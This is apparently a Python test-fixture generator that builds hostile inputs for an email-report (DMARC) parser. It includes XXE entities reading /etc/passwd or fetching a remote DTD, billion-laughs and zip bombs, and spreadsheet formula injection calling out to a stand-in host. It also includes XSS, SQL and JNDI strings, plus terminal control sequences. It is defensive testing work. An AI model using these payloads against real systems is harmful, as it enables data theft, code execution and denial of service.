"""Inputs made to do harm: to the parser, to memory, to the reader's terminal, browser or spreadsheet."""
from . import mail
from .containers import gz, zipped
from .good_mail import body
from .layout import write
from .report import Dkim, Row, Spf, own_sender, usual
from .sample import Sample, defect, edit, edit_in_record

MIB = 1 << 20


def refused(name, data, shows, code):
    data = data.encode() if isinstance(data, str) else data
    return Sample(f"hostile/{name}", data, shows, outcome="rejected", code=code)


def stored(name, data, shows, want, defects=(), **facts):
    data = data.encode() if isinstance(data, str) else data
    return Sample(f"hostile/{name}", data, shows, reports=[{**want, "defects": list(defects), **facts}])


def samples():
    return [*entities(), *shapes(), *bombs(), *mails(), injection(), controls(), *numbers(), floods(), names()]


def entities():
    laughs = '<!DOCTYPE feedback [<!ENTITY a "ha">\n' + "".join(
        f'<!ENTITY {chr(98 + n)} "{("&" + chr(97 + n) + ";") * 10}">\n' for n in range(9)) + "]>"
    square = f'<!DOCTYPE feedback [<!ENTITY a "{"x" * 20000}">]>'
    outside = '<!DOCTYPE feedback [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
    remote = '<!DOCTYPE feedback [<!ENTITY % a SYSTEM "http://203.0.113.99/x.dtd"> %a;]>'
    text = write(usual("entities"))

    def attack(doctype, use):
        prolog = '<?xml version="1.0"?>\n' + doctype + "\n"
        return prolog + edit(text[text.index("<feedback>"):], ("Receiver Example", use))
    late = edit(text, ("  <record>\n    <row>\n      <source_ip>192.0.2.10",
                       outside + "  <record>\n    <row>\n      <source_ip>192.0.2.10"))
    unknown = edit(text, ("Receiver Example", "Receiver &a; Example"))
    return [refused("billion-laughs.xml", attack(laughs, "&j;"), "entities that expand to 10^9 words", "doctype"),
            refused("quadratic-blowup.xml", attack(square, "&a;" * 5000), "one long entity used 5,000 times", "doctype"),
            refused("external-entity.xml", attack(outside, "&a;"), "an entity that names a local file", "doctype"),
            refused("remote-dtd.xml", attack(remote, "x"), "a DTD on another host", "doctype"),
            refused("late-doctype.xml", late, "a DOCTYPE in the middle of the report", "doctype"),
            stored("undefined-entity.xml", unknown, "an entity nobody defined", usual("entities").expected(),
                   [defect("bare-ampersand")], damaged=True, org_name="Receiver &a; Example")]


def shapes():
    text = write(usual("shapes"))
    before = "  <policy_published>"

    def grown(extra):
        return edit(text, (before, extra + before))
    return [refused("deep-elements.xml.gz", gz(grown("<a>" * 100000 + "</a>" * 100000).encode()),
                    "100,000 elements inside each other", "xml-too-deep"),
            refused("deep-unclosed.xml.gz", gz(grown("<a>" * 200000).encode()), "200,000 elements never closed",
                    "xml-too-deep"),
            refused("huge-tag.xml.gz", gz(grown("<" + "a" * MIB + "/>").encode()), "a tag name of a mebibyte",
                    "xml-tag-too-long"),
            refused("huge-attribute.xml.gz", gz(grown('<a b="' + "x" * MIB + '"/>').encode()),
                    "an attribute of a mebibyte", "xml-tag-too-long"),
            refused("attribute-flood.xml.gz", gz(grown("<a " + " ".join(f'b{n}="1"' for n in range(20000)) + "/>").encode()),
                    "20,000 attributes on one tag", "xml-tag-too-long"),
            refused("endless-prolog.xml.gz", gz(b"<!-- " + b"x" * 200000 + b" -->\n" + text.encode()),
                    "200,000 octets of comment in front of the root", "prolog-too-long")]


def bombs():
    data, want = body("bomb")
    padded = data.replace(b"</feedback>", b" " * (24 * MIB) + b"</feedback>")
    deep = data
    for _ in range(12):
        deep = zipped([("x.zip", deep)], stored=True)
    shell = padded
    for _ in range(4):
        shell = gz(shell)
    many = zipped([(f"{n}.xml", b"x") for n in range(1500)], stored=True)
    lied, lied_want = body("lying-size")
    return [refused("bomb.zip", zipped([("r.xml", padded)]), "24 MiB of blanks in 24 KiB", "ratio-exceeded"),
            refused("bomb.xml.gz", gz(padded), "the same as gzip", "ratio-exceeded"),
            refused("nested-bomb.gz", shell, "24 MiB of blanks in four gzips", "ratio-exceeded"),
            refused("nested-12.zip", deep, "twelve zips inside each other", "nesting-too-deep"),
            Sample("hostile/overlapping-entries.zip", zipped([("r.xml", data + b" " * 4 * MIB)], overlap=400),
                   "400 names for the same octets: some are read, then the ratio of the whole is exceeded",
                   reports=[want] * 6, rejected=["ratio-exceeded"]),
            refused("many-entries.zip", many, "1,500 entries", "too-many-entries"),
            stored("lying-size.zip", zipped([("r.xml", lied)], claimed_size=17),
                   "an entry that claims 17 octets and unpacks to more: only the octets count", lied_want)]


def mails():
    data, want = body("hostile-mail")
    report = mail.file_part(gz(data))
    deep = report
    for n in range(200):
        deep = mail.joined([deep], boundary=f"=_{n}")
    many = mail.multipart("many-parts", [mail.text_part("x\n")] * 1500)
    long_header = mail.headers("long-header") + "X-Long: " + "x" * 300000 + "\n" + mail.joined([report])
    same = mail.multipart("same-boundary", [mail.joined([report], boundary="=_boundary_1")])
    near = mail.multipart("near-boundary", [mail.part("Content-Type: text/plain\n", ("--=_boundary_" * 20 + "\n") * 300),
                                            report])
    bare = mail.headers("no-colon") + "this line is no field\n" + mail.joined([report])
    return [refused("deep-mime.eml", mail.headers("deep-mime") + deep, "200 multiparts inside each other",
                    "mime-too-deep"),
            refused("many-parts.eml", many, "1,500 parts", "too-many-parts"),
            refused("overlong-header.eml", long_header, "a header field of 300,000 octets", "header-too-large"),
            Sample("hostile/same-boundary.eml", same.encode(), "a multipart inside a multipart with the same boundary",
                   reports=[want]),
            Sample("hostile/near-boundaries.eml", near.encode(), "300 lines that almost are the boundary",
                   reports=[want]),
            Sample("hostile/header-line-without-colon.eml", bare.encode(), "a line in the header that is no field",
                   reports=[want])]


def injection():
    """Texts that do harm where they are shown: they are stored as they are, and made harmless on output."""
    rows = [Row("192.0.2.10", 1, reasons=(("other", "+1+cmd|' /C calc'!A0"), ("other", "@SUM(1+1)*cmd|'x'!A0")),
                header_from="example.com", auth_dkim=(Dkim("example.com", selector="-2+3+cmd"),),
                auth_spf=(Spf("example.com", human="\t=1+1"),)),
            Row("192.0.2.11", 1, reasons=(("other", "<script>alert(1)</script>"),), auth_dkim=(
                Dkim("example.com", human='"><img src=x onerror=alert(1)>'),), auth_spf=(Spf("example.com"),)),
            Row("192.0.2.12", 1, reasons=(("other", "'; DROP TABLE record; --"),), auth_spf=(Spf("example.com"),),
                spf="pass", dkim="fail")]
    report = usual("=HYPERLINK(\"http://203.0.113.99/?\"&A1;\"open\")", rows,
                   org='=cmd|\'/C calc\'!A0 <script src="//203.0.113.99/x.js"></script>',
                   contact="javascript:alert(1)", errors=("%s%n%x${jndi:ldap://203.0.113.99/a}",))
    return stored("injection.xml", write(report), "formulas, HTML, SQL and format strings in every text",
                  report.expected())


def controls():
    report = usual("controls", [own_sender(1)], org="A\u202etxt.exe\u2066 \u200b\u009b31mB Example", contact="two\nlines")
    row = report.rows[0]
    row.reasons = (("other", "\u009b2J\u009b1;1H all is well"),)
    text = edit(write(report), ("two\nlines", "two&#10;lines"))
    text = edit_in_record(text, 1, ("<selector>s1</selector>", "<selector>s\x1b[31m1</selector>"))
    rows = report.expected()["rows"]
    rows[0]["auth_dkim"] = [["example.com", "s\ufffd[31m1", "pass"]]
    return stored("control-characters.xml", text, "terminal sequences, right-to-left overrides and line ends in texts",
                  report.expected(), [defect("control-character", row=1)], rows=rows, damaged=True)


def numbers():
    # Under a domain of its own: beside such sums nothing else of a demonstration could be seen.
    huge = usual("huge-counts", [own_sender(10**12, f"192.0.2.{n}") for n in range(1, 10)], domain="counts.example")
    text = write(huge).replace("<count>1000000000000</count>", "<count>9223372036854775807</count>")
    dates = usual("huge-dates", [own_sender(1)])
    far = edit(write(dates), (f"<begin>{dates.begin}</begin>", "<begin>-9223372036854775808</begin>"),
               (f"<end>{dates.end}</end>", "<end>99999999999999999999999999</end>"))
    return [stored("enormous-counts.xml", text, "nine counts of 2^63-1: each is capped, the sum does not overflow",
                   huge.expected(), [defect("count-capped", row=n) for n in range(1, 10)]),
            stored("enormous-dates.xml", far, "dates outside every calendar", dates.expected(),
                   [defect("date-unreadable"), defect("date-implausible")], begin=None, end=None)]


def floods():
    row = Row("192.0.2.10", 3, auth_dkim=tuple(Dkim(f"d{n}.example", "fail") for n in range(250)),
              auth_spf=tuple(Spf(f"s{n}.example", "none") for n in range(250)), dkim="fail", spf="fail")
    report = usual("signature-flood", [row])
    rows = report.expected()["rows"]
    rows[0]["auth_dkim"], rows[0]["auth_spf"] = rows[0]["auth_dkim"][:100], rows[0]["auth_spf"][:100]
    return stored("signature-flood.xml.gz", gz(write(report).encode()), "250 DKIM and 250 SPF results on one record",
                  report.expected(), [defect("too-many-signatures", row=1)], rows=rows)


def names():
    long = "a" * 63 + "." + "b" * 63 + "." + "c" * 63 + "." + "d" * 63 + ".example"
    report = usual("long-names", [own_sender(1)])
    report.rows[0].header_from = long
    return stored("long-names.xml", write(report), "a name over 253 octets", report.expected(),
                  [defect("bad-domain", row=1)])
